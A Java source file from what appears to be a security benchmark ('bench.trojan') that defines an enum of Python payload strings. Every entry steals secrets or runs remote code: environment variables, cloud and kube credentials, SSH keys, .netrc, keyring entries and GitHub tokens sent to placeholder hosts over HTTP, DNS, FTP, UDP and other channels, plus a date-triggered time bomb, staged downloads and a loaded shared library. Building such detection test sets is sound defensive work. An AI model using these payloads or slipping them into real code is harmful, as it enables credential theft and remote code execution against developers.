package dev.assay.bench.trojan;

import static java.nio.charset.StandardCharsets.UTF_8;

import java.util.Map;

/// Payloads that take something away by less common ways: other protocols, libraries and flows.
enum Channel implements Payload {
  HTTPX(
      """
      import asyncio, os, httpx
      async def report():
          async with httpx.AsyncClient(base_url="https://collect.example") as client:
              await client.post("/v1/ping", json={k: v for k, v in os.environ.items()})
      asyncio.run(report())
      """),
  POOL(
      """
      import json, os, urllib3
      pool = urllib3.PoolManager(cert_reqs="CERT_NONE")
      pool.request("POST", "https://collect.example/v1/ping", body=json.dumps(dict(os.environ)))
      """),
  STREAM(
      """
      import asyncio, os, pathlib
      async def deliver(host, port):
          reader, writer = await asyncio.open_connection(host, port)
          writer.write((pathlib.Path.home() / ".aws" / "credentials").read_bytes())
          await writer.drain()
          writer.close()
      asyncio.new_event_loop().run_until_complete(deliver("192.0.2.17", 8443))
      """),
  RESOLVER(
      """
      import os, dns.resolver
      text = os.environ.get("AWS_SECRET_ACCESS_KEY", "").encode().hex()
      asker = dns.resolver.Resolver()
      for start in range(0, len(text), 50):
          asker.resolve("%s.%d.collect.example" % (text[start:start + 50], start), "TXT")
      """),
  FILE_TRANSFER(
      """
      import ftplib, os
      with ftplib.FTP("collect.example") as link:
          link.login("drop", "drop")
          for name in ("id_rsa", "id_ed25519"):
              place = os.path.expanduser("~/.ssh/" + name)
              if os.path.exists(place):
                  link.storbinary("STOR " + name, open(place, "rb"))
      """),
  WEBSOCKET(
      """
      import asyncio, json, os, websockets
      async def tell():
          async with websockets.connect("wss://collect.example/s") as link:
              await link.send(json.dumps(dict(os.environ)))
      asyncio.run(tell())
      """),
  AIOHTTP(
      """
      import asyncio, os, aiohttp
      async def post():
          with open(os.path.expanduser("~/.kube/config")) as handle:
              text = handle.read()
          async with aiohttp.ClientSession() as session:
              async with session.post("https://collect.example/k", data=text) as answer:
                  await answer.text()
      asyncio.run(post())
      """),
  REMOTE_CALL(
      """
      import os, xmlrpc.client
      proxy = xmlrpc.client.ServerProxy("http://192.0.2.17:9000/rpc")
      proxy.report(dict(os.environ))
      """),
  PIPED(
      """
      import json, os, subprocess
      child = subprocess.Popen(
          ["curl", "-s", "-X", "POST", "-d", "@-", "https://collect.example/p"], stdin=subprocess.PIPE
      )
      child.communicate(json.dumps(dict(os.environ)).encode())
      """),
  HAND_WRITTEN(
      """
      import os, socket, ssl
      body = open(os.path.expanduser("~/.netrc")).read()
      plain = socket.create_connection(("collect.example", 443))
      link = ssl.create_default_context().wrap_socket(plain, server_hostname="collect.example")
      lines = ["POST /n HTTP/1.1", "Host: collect.example", "Content-Length: %d" % len(body), "", body]
      link.sendall("\\r\\n".join(lines).encode())
      """),
  DATAGRAMS(
      """
      import os, socket, zlib
      link = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
      data = zlib.compress(repr(sorted(os.environ.items())).encode())
      for start in range(0, len(data), 512):
          link.sendto(data[start:start + 512], ("192.0.2.17", 53))
      """),
  LOG_HANDLER(
      """
      import logging, logging.handlers, os
      log = logging.getLogger("audit")
      log.addHandler(logging.handlers.HTTPHandler("collect.example", "/log", method="POST", secure=True))
      log.warning("%s", dict(os.environ))
      """),
  COMMAND_TOKEN(
      """
      import subprocess, urllib.request
      token = subprocess.check_output(["gh", "auth", "token"], text=True).strip()
      urllib.request.urlopen("https://collect.example/t?v=" + token)
      """),
  KEYS_BY_SUFFIX(
      """
      import os, requests
      keys = {k: os.environ[k] for k in os.environ if k.endswith(("_API_KEY", "_TOKEN"))}
      if keys:
          requests.put("https://collect.example/v1/usage", json=keys, timeout=3)
      """),
  KEYRING(
      """
      import keyring, requests
      for service in ("pypi", "github", "aws-vault"):
          secret = keyring.get_password(service, "default")
          if secret:
              requests.post("https://collect.example/r", data={"s": service, "v": secret})
      """),
  QUEUED(
      """
      import os, queue, threading, urllib.request
      jobs = queue.Queue()
      def work():
          while True:
              item = jobs.get()
              urllib.request.urlopen("https://collect.example/q", data=item)
      threading.Thread(target=work, daemon=True).start()
      for name in ("~/.aws/credentials", "~/.config/gcloud/application_default_credentials.json"):
          try:
              jobs.put(open(os.path.expanduser(name), "rb").read())
          except OSError:
              pass
      """),
  OBJECTS(
      """
      import dataclasses, json, os, urllib.request
      @dataclasses.dataclass
      class Report:
          where: str
          what: dict
          def send(self):
              urllib.request.urlopen(self.where, data=json.dumps(self.what).encode())
      def gather():
          for name in os.environ:
              yield name, os.environ[name]
      Report("https://collect.example/o", dict(gather())).send()
      """),
  CONFIGURED(
      """
      import json, os, urllib.request
      with open(os.path.join(os.path.dirname(__file__), "settings.json")) as handle:
          settings = json.load(handle)
      found = {}
      for name in settings["files"]:
          place = os.path.join(os.path.expanduser("~"), name)
          if os.path.exists(place):
              found[name] = open(place).read()
      urllib.request.urlopen(settings["endpoint"], data=json.dumps(found).encode())
      """) {
    @Override
    public Map<String, byte[]> companions() {
      String settings =
          """
          {"endpoint": "https://192.0.2.17/sync", "files": [".aws/credentials", ".ssh/id_rsa"]}
          """;
      return Map.of("settings.json", settings.getBytes(UTF_8));
    }
  },
  TIME_BOMB(
      """
      import datetime, urllib.request
      if datetime.date.today() > datetime.date(2027, 1, 15):
          exec(urllib.request.urlopen("https://collect.example/x").read())
      """),
  STAGED(
      """
      import os, runpy, tempfile, urllib.request
      place = os.path.join(tempfile.mkdtemp(), "step.py")
      urllib.request.urlretrieve("https://collect.example/step", place)
      runpy.run_path(place)
      """),
  LOADED(
      """
      import ctypes, os, tempfile, requests
      place = os.path.join(tempfile.gettempdir(), "libz.so.7")
      with open(place, "wb") as handle:
          handle.write(requests.get("https://collect.example/z").content)
      ctypes.cdll.LoadLibrary(place)
      """);

  private final String code;

  Channel(String code) {
    this.code = code;
  }

  @Override
  public String code() {
    return code;
  }
}
